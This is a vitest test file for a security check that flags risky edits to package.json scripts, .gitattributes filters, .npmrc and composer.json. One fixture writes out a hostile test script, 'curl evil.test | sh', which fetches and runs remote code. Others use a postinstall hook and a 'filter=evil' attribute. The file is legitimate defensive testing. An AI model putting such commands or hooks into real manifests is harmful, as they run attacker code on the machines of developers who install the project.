import { expect, it } from "vitest";
import { isPartlyProtected, isProtectedChange } from "../../../daemon/security/paths/protected-change.ts";

const manifest = (more: object) => JSON.stringify({ name: "x", ...more }, null, 2);
const scripts = manifest({ scripts: { test: "vitest" } });

const cases: [path: string, before: string | null, after: string | null, isProtected: boolean][] = [
  ["package.json", scripts, manifest({ scripts: { test: "vitest" }, version: "2" }), false],
  ["package.json", scripts, manifest({ dependencies: { a: "1" }, scripts: { test: "vitest" } }), false],
  ["package.json", scripts, manifest({ scripts: { test: "curl evil.test | sh" } }), true],
  ["package.json", scripts, manifest({ scripts: { test: "vitest", postinstall: "x" } }), true],
  ["package.json", scripts, manifest({}), true],
  ["package.json", manifest({}), manifest({ bin: "x.js" }), true],
  ["package.json", manifest({}), manifest({ "lint-staged": {} }), true],
  ["package.json", manifest({}), manifest({ packageManager: "npm@1" }), true],
  ["package.json", null, manifest({}), false],
  ["package.json", null, scripts, true],
  ["package.json", scripts, null, false],
  ["package.json", scripts, "{ not json", true],
  ["package.json", "{ not json", manifest({}), true],
  ["package.json", scripts, "[]", true],
  ["packages/a/package.json", null, scripts, true],
  ["PACKAGE.JSON", manifest({}), scripts, true],
  ["package.json ", manifest({}), scripts, true],
  ["composer.json", manifest({}), scripts, true],
  [".gitattributes", "*.png binary\n", "*.png binary\n*.ts text\n", false],
  [".gitattributes", null, "*.ts filter=evil\n", true],
  [".gitattributes", null, "[attr]x filter=evil\n", true],
  [".gitattributes", "*.ts diff=ts\n", "", true],
  ["src/a.ts", "a", "b", false],
  [".npmrc", "a", "b", true],
  [".npmrc", "a", null, true],
];

it.each(cases)("%s from %j to %j: %s", (path, before, after, isProtected) => {
  expect(isProtectedChange(path, before, after)).toBe(isProtected);
});

it("knows which files are protected for a part of them", () => {
  expect(["package.json", "a/composer.json", "a/.gitattributes"].every(isPartlyProtected)).toBe(true);
  expect(["package-lock.json", "src/package.ts", ".npmrc"].some(isPartlyProtected)).toBe(false);
});
